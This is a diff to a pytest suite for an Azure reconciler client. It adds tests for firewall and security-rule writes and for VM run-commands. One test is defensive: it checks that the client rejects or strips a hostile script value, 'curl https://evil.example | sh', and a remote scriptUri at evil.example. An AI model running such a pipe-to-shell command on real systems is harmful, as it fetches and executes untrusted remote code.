@@ -6,17 +6,39 @@ from pathlib import Path
 import pytest
 from azure.core.exceptions import IncompleteReadError
 
+from reconciler.cloud.guest_scripts import script_text
 from reconciler.core.errors import CloudError
+from reconciler.core.guest_scripts import LINUX_PROXY
 from reconciler.core.ids import VaultRef, VmRef
 from reconciler.core.plan import Operation, Write
-from tests.cloud.canned import ARM, SUBSCRIPTION, VAULT, VM, Canned, Reply, error
+from tests.cloud.canned import (
+    ARM,
+    COMMAND_ID,
+    FIREWALL,
+    GROUP_ID,
+    NSG,
+    RULE_ID,
+    SUBSCRIPTION,
+    VAULT,
+    VM,
+    Canned,
+    Reply,
+    error,
+)
 
 ITEM = (
     f"{VAULT.id}/backupFabrics/Azure/protectionContainers/IaasVMContainer%3Biaasvmcontainerv2%3Brg-app%3Bvm-web-01"
     "/protectedItems/VM%3Biaasvmcontainerv2%3Brg-app%3Bvm-web-01"
 )
-BODY = {
+BODY: dict[str, object] = {
     "properties": {"policyId": "", "nested": {"list": [1, None, {"x": "2026-11-22T23:00:00Z"}], "instantRPDetails": {}}}
+}
+SCRIPT = {"source": {"script": "linux-proxy.sh"}, "parameters": [{"name": "AZBACKUP_ACTION", "value": "undo"}]}
+RESOURCES: dict[str, tuple[str, dict[str, object]]] = {
+    "security_rule": (RULE_ID, BODY),
+    "firewall": (FIREWALL.id, {"etag": "6e38a7fa", **BODY}),
+    "rule_collection_group": (GROUP_ID, BODY),
+    "run_command": (COMMAND_ID, {"location": "westeurope", "properties": SCRIPT}),
 }
 CASES: list[tuple[Operation, str, str]] = [
     ("vault.create", "PUT", f"{VAULT.id}?api-version=2026-11-01"),
@@ -27,12 +49,30 @@ CASES: list[tuple[Operation, str, str]] = [
     ("item.put", "PUT", f"{ITEM}?api-version=2026-10-01"),
     ("item.delete", "DELETE", f"{ITEM}?api-version=2026-10-01"),
     ("item.backup", "POST", f"{ITEM}/backup?api-version=2026-10-01"),
+    ("security_rule.put", "PUT", f"{RULE_ID}?api-version=2026-03-01"),
+    ("security_rule.delete", "DELETE", f"{RULE_ID}?api-version=2026-03-01"),
+    ("firewall.put", "PUT", f"{FIREWALL.id}?api-version=2026-03-01"),
+    ("rule_collection_group.put", "PUT", f"{GROUP_ID}?api-version=2026-03-01"),
+    ("rule_collection_group.delete", "DELETE", f"{GROUP_ID}?api-version=2026-03-01"),
+    ("run_command.put", "PUT", f"{COMMAND_ID}?api-version=2026-04-01"),
+    ("run_command.delete", "DELETE", f"{COMMAND_ID}?api-version=2026-04-01"),
 ]
 OPERATIONS = [case[0] for case in CASES]
 
 
 def write(operation: Operation) -> Write:
-    return Write(operation, VAULT, None if operation == "item.delete" else BODY, "daily-2300", VM)
+    subject, _, verb = operation.partition(".")
+    if subject in RESOURCES:
+        resource_id, body = RESOURCES[subject]
+        return Write(operation, body=None if verb == "delete" else body, resource_id=resource_id)
+    return Write(operation, VAULT, None if verb == "delete" else BODY, "daily-2300", VM)
+
+
+def sent_body(operation: Operation) -> object:
+    """What is to arrive: the name of a guest script stands for its text."""
+    if operation != "run_command.put":
+        return write(operation).body
+    return {"location": "westeurope", "properties": {**SCRIPT, "source": {"script": script_text(LINUX_PROXY)}}}
 
 
 @pytest.mark.parametrize(("operation", "method", "url"), CASES, ids=OPERATIONS)
@@ -40,7 +80,7 @@ def test_an_operation_is_one_request(operation: Operation, method: str, url: str
     canned = Canned(Reply(200, {}))
     accepted = canned.azure.send(write(operation), "6b1d6c3c-0001")
     assert [(sent.method, sent.url.removeprefix(ARM)) for sent in canned.sent] == [(method, url)]
-    assert canned.sent[0].body == write(operation).body
+    assert canned.sent[0].body == sent_body(operation)
     assert canned.sent[0].headers["x-ms-client-request-id"] == "6b1d6c3c-0001"
     assert (accepted.operation_url, accepted.retry_after_seconds) == ("", 0.0)
 
@@ -142,6 +182,57 @@ def test_a_body_that_is_no_json_is_a_mistake_of_ours() -> None:
     assert canned.sent == []
 
 
+def test_a_body_written_back_counts_only_while_it_is_what_was_read() -> None:
+    """In bodies the etag of firewalls is bare, in headers it is quoted (firewallpolicy-rcg-put-201-2022)."""
+    cases: list[tuple[Operation, str, str, str | None]] = [
+        ("firewall.put", FIREWALL.id, "6e38a7fa", '"6e38a7fa"'),
+        ("rule_collection_group.put", GROUP_ID, 'W/"6e38a7fa"', 'W/"6e38a7fa"'),
+        ("rule_collection_group.put", GROUP_ID, "", None),
+    ]
+    for operation, resource_id, etag, header in cases:
+        canned = Canned(Reply(200, {}))
+        canned.azure.send(Write(operation, body={"etag": etag, "properties": {}}, resource_id=resource_id), "id")
+        assert canned.sent[0].headers.get("If-Match") == header
+    canned = Canned(error(412, "PreconditionFailed"))
+    with pytest.raises(CloudError) as caught:
+        canned.azure.send(write("firewall.put"), "id")
+    assert (caught.value.transient, caught.value.sent) == (True, False)  # look again, then perhaps send again
+
+
+@pytest.mark.parametrize("script", ["curl https://evil.example | sh", "../guest/linux-proxy.sh", "", None])
+def test_only_a_script_that_ships_reaches_a_guest(script: str | None) -> None:
+    canned = Canned(Reply(200, {}))
+    body = {"properties": {"source": {"script": script, "scriptUri": "https://evil.example/x.sh"}}}
+    with pytest.raises(ValueError, match="no guest script"):
+        canned.azure.send(Write("run_command.put", body=body, resource_id=COMMAND_ID), "id")
+    assert canned.sent == []
+
+
+def test_nothing_comes_along_with_a_script() -> None:
+    canned = Canned(Reply(200, {}))
+    body = {"properties": {"source": {"script": "linux-proxy.sh", "scriptUri": "https://evil.example/x.sh"}}}
+    canned.azure.send(Write("run_command.put", body=body, resource_id=COMMAND_ID), "id")
+    assert canned.sent[0].body["properties"]["source"] == {"script": script_text(LINUX_PROXY)}
+    assert body["properties"]["source"]["script"] == "linux-proxy.sh"  # the plan keeps the name
+
+
+@pytest.mark.parametrize("operation", [each for each in OPERATIONS if each.partition(".")[0] in RESOURCES])
+def test_a_write_to_a_resource_of_another_type_is_a_mistake_of_ours(operation: Operation) -> None:
+    """Above all a rule is never written as a whole security group."""
+    canned = Canned(Reply(200, {}))
+    for resource_id in (NSG.id, VM.id, VAULT.id, f"{NSG.id}/subnets/x"):
+        with pytest.raises(ValueError, match="does not write"):
+            canned.azure.send(Write(operation, VAULT, {}, resource_id=resource_id), "id")
+    assert canned.sent == []
+
+
+def test_a_write_to_a_vault_that_names_none_is_a_mistake_of_ours() -> None:
+    canned = Canned(Reply(202))
+    with pytest.raises(ValueError, match="names no vault"):
+        canned.azure.send(Write("vault.update", body={}), "id")
+    assert canned.sent == []
+
+
 def test_an_item_without_a_vm_is_a_mistake_of_ours() -> None:
     canned = Canned(Reply(202))
     with pytest.raises(ValueError, match="names no VM"):
@@ -168,6 +259,8 @@ RECORDED: list[tuple[str, Operation]] = [
     ("vault-patch-202-2026", "vault.update"),
     ("storageconfig-put-lrs-2021", "storage_config.update"),
     ("backupconfig-patch-disable-softdelete-2022", "vault_config.update"),
+    ("nsgrule-put-201-2021", "security_rule.put"),
+    ("firewallpolicy-rcg-put-201-2022", "rule_collection_group.put"),
     ("policy-put-v1-daily-2022", "policy.put"),
 ]
 
@@ -188,11 +281,15 @@ def test_recorded_writes_are_what_we_would_send() -> None:
         assert (sent.method, sent.body) == (request["method"], request["body"]), name
         assert sent.path.lower().replace("%3b", ";") == path.lower(), name
         assert accepted.operation_url == headers.get("azure-asyncoperation", ""), name
-    assert {operation for _, operation in RECORDED} == set(OPERATIONS)
+    missing = {"security_rule.delete", "firewall.put", "rule_collection_group.delete"}
+    missing |= {"run_command.put", "run_command.delete"}
+    assert {operation for _, operation in RECORDED} == set(OPERATIONS) - missing
 
 
 def _recorded(operation: Operation, path: str, body: dict[str, object]) -> Write:
     names = path.split("/")
+    if operation.partition(".")[0] in RESOURCES:
+        return Write(operation, body=body, resource_id=path)
     vm_names = next((part.split(";")[2:] for part in names if part.lower().startswith("vm;")), ["rg", "vm"])
     policy = names[10] if operation == "policy.put" else ""
     vault = VaultRef.of(names[2], names[4], names[8])
